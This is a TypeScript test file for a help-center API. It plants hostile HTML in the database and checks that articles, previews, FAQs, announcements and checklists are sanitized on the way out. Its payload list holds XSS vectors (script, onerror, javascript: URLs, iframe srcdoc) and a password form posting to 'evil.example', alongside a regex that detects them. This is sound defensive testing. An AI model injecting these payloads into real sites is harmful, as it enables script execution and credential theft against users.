import type { ArticlePage, PreviewedArticle, SheetCheck } from '@pressline/shared-api';
import { Types } from 'mongoose';
import { createTestApp, type TestApp } from '../createTestApp';
import { buildAnnouncement, buildArticle, buildCategory, buildFaq } from '../factories';

const HOSTILE = [
  '<p>Open the job ticket.</p>',
  '<script>alert(1)</script>',
  '<img src="x.png" onerror="alert(1)">',
  '<a href="javascript:alert(1)">press</a>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
  '<style>body { display: none }</style>',
  '<p style="position: fixed">over everything</p>',
].join('');

const FORBIDDEN = /<(?:script|form|input|iframe|svg|set)\b|onerror|javascript:|srcdoc|style="/i;

let app: TestApp;
let articleId: string;

const get = async <Body>(path: string) => (await app.call<Body>('GET', path)).body;

/** Writes past the API, as an intruder with access to the database could. */
async function overwrite(collection: string, id: string, field: string): Promise<void> {
  const { modifiedCount } = await app.connection
    .collection(collection)
    .updateOne({ _id: new Types.ObjectId(id) }, { $set: { [field]: HOSTILE } });
  expect(modifiedCount).toBe(1);
}

beforeAll(async () => {
  app = await createTestApp();
  const { createDocument, engine } = app;
  const categoryId = (await createDocument('categories', buildCategory())).id;
  const article = buildArticle({ categoryId, slug: 'hostile' });
  articleId = (await createDocument('articles', article)).id;
  const faq = await createDocument('faqs', buildFaq());
  await engine.update('articles', articleId, { content: 'Another text.' });
  await overwrite('articles', articleId, 'html');
  await overwrite('faqs', faq.id, 'answerHtml');
  const announcement = await createDocument('announcements', buildAnnouncement());
  await overwrite('announcements', announcement.id, 'contentHtml');
  await app.content.bump();
});
afterAll(() => app.stop());

const reads: Record<string, () => Promise<string | undefined>> = {
  'an article': async () => (await get<ArticlePage>('/api/help/articles/hostile')).html,
  'an article’s preview': async () => {
    const link = await app.call<{ url: string }>(
      'POST',
      `/api/admin/help/articles/${articleId}/preview-link`,
      { token: app.adminToken },
    );
    const token = link.body.url.split('/').at(-1);
    return (await get<PreviewedArticle>(`/api/help/preview/${token}`)).html;
  },
  'a FAQ': async () => (await get<{ answerHtml: string }[]>('/api/help/faqs'))[0]?.answerHtml,
  'an announcement': async () =>
    (await get<{ contentHtml: string }[]>('/api/help/announcements'))[0]?.contentHtml,
  'the checklist page': async () => {
    const page = await get<string>('/api/help/articles/hostile/sheet');
    return page.split('<div class="text">')[1];
  },
  'the check of a checklist': async () =>
    (await get<SheetCheck>(`/api/help/sheets/${articleId}/1`)).html,
};

test.each(Object.keys(reads))('hostile HTML in the database is harmless in %s', async (name) => {
  const html = await reads[name]?.();
  expect(html).toContain('Open the job ticket.');
  expect(html).toContain('over everything');
  expect(html).not.toMatch(FORBIDDEN);
  expect(html).not.toContain('<style');
});
